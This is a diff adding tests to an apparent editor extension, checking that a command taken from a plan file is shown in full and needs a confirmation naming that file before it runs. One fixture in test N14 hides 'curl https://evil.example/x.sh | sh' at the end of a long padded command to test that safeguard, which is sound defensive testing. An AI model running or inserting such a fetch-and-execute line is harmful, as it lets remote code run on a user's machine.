@@ -163,6 +163,7 @@ test('Reproduce with Plan: the plan\'s command offered for confirmation, braid/r
     problems: [],
   };
   ui.answer('showInputBox', 'java -cp "my out" shop.Inventory');
+  ui.answer('showWarningMessage', tp.RUN);
   settings['record.runs'] = 4;
   await run(tp.REPRODUCE_WITH_PLAN);
   delete settings['record.runs'];
@@ -174,6 +175,43 @@ test('Reproduce with Plan: the plan\'s command offered for confirmation, braid/r
   requests.length = 0;
   await run(tp.REPRODUCE_WITH_PLAN, PLAN);
   assert.deepEqual(requests.map((x) => x[0]), ['braid/triggerPoints']);
+});
+
+test('N14: Reproduce with Plan says the command comes from the plan file (relative path) and shows it whole; running it needs a confirmation naming the file', async () => {
+  const long = ['java', '-cp', 'out', 'shop.Inventory', ...Array.from({ length: 40 }, (_, k) => `--option-${k}=value`), '&&', 'curl', 'https://evil.example/x.sh', '|', 'sh'];
+  const whole = tp.quoteLine(long);
+  triggerData = { plans: [{ name: 'checkout', file: PLAN, uri: `file://${PLAN}`, command: long, triggers: 2, runs: 212 }], files: [], problems: [] };
+  // the user accepts the box unchanged, then declines the confirmation: nothing runs
+  requests.length = 0;
+  ui.answer('showInputBox', whole);
+  await run(tp.REPRODUCE_WITH_PLAN);
+  const box = ui.calls.find((c) => c.fn === 'showInputBox')!.args[0] as { prompt: string; value: string };
+  assert.equal(box.value, whole);
+  assert.ok(box.prompt.includes('.braid/plans/checkout.json'), `the box names the plan file: ${box.prompt}`);
+  assert.ok(!box.prompt.includes(ws), 'relative to the workspace folder');
+  assert.ok(box.prompt.endsWith(whole), 'the whole command, its end included, is in the prompt');
+  const confirm = ui.calls.find((c) => c.fn === 'showWarningMessage');
+  assert.ok(confirm, 'a confirmation before running the plan\'s command');
+  assert.match(String(confirm.args[0]), /comes from the noise plan \.braid\/plans\/checkout\.json/);
+  assert.deepEqual(confirm.args[1], { modal: true, detail: whole });
+  assert.deepEqual(requests.map((x) => x[0]), ['braid/triggerPoints'], 'declined: no braid/record');
+  // confirmed: recorded
+  ui.reset();
+  ui.answer('showInputBox', whole);
+  ui.answer('showWarningMessage', tp.RUN);
+  await run(tp.REPRODUCE_WITH_PLAN);
+  assert.deepEqual(requests.at(-1)?.[1]?.command, long);
+  // several plans: the list names each file (relative) and its command
+  ui.reset();
+  triggerData = { ...triggerData, plans: [...triggerData.plans, { name: 'other', file: path.join(ws, '.braid/plans/other.json'), uri: '', triggers: 1 }] };
+  await run(tp.REPRODUCE_WITH_PLAN);
+  const items = ui.calls.find((c) => c.fn === 'showQuickPick')!.args[0] as { detail: string }[];
+  assert.deepEqual(items.map((i) => i.detail), [`.braid/plans/checkout.json · command from the plan: ${whole}`, '.braid/plans/other.json']);
+});
+
+test('N1: the inline hint of a trigger with a huge "together" lists no more than a few ranks', () => {
+  assert.equal(text.triggerHint([{ ...lines()[0], rank: 5, together: 100_000 }]), '◎ trigger #5 (with #1–#4, #6–#100000) · fails 2% → 61%');
+  assert.equal(text.triggerHint([{ ...lines()[0], rank: 1, together: 7 }]), '◎ trigger #1 (with #2–#7) · fails 2% → 61%');
 });
 
 test('Reproduce with Plan: a file that is no plan of the workspace is refused; no plan yet offers Find Trigger Points', async () => {
